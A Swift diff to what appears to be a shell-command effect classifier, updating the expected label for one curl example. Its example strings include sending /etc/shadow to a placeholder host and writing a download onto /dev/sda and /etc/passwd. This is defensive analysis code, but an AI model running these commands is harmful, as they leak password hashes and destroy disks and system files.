@@ -1,7 +1,7 @@
 /// Downloads.
 enum FetchingPrograms {
     static let table: [ProgramSpec] = [
-        ProgramSpec("curl", options: curlOptions, examples: ["curl -fsSL https://x/y -o /tmp/y -> fetch to /tmp/y", "curl -d @/etc/shadow https://x -> fetch, send /etc/shadow", "curl -so /dev/sda http://x -> fetch to /dev/sda"]) { $0.curl() },
+        ProgramSpec("curl", options: curlOptions, examples: ["curl -fsSL https://x/y -o /tmp/y -> fetch to /tmp/y", "curl -d @/etc/shadow https://x -> fetch, change, send /etc/shadow", "curl -so /dev/sda http://x -> fetch to /dev/sda"]) { $0.curl() },
         ProgramSpec("wget", options: wgetOptions, examples: ["wget -qO- https://x -> fetch", "wget -O /etc/passwd http://x -> fetch to /etc/passwd"]) { $0.wget() },
         ProgramSpec("aria2c axel lynx links w3m elinks http https httpie xh lwp-request GET POST HEAD fetch youtube-dl yt-dlp", options: "-o/--out/--output:writes -d/--dir= -O= -P= -s= -x= -j= -q -dump --download") { r in
             r.add(.fetch(from: r.operands.last ?? .unknown, to: r.value("-o", "-O")))
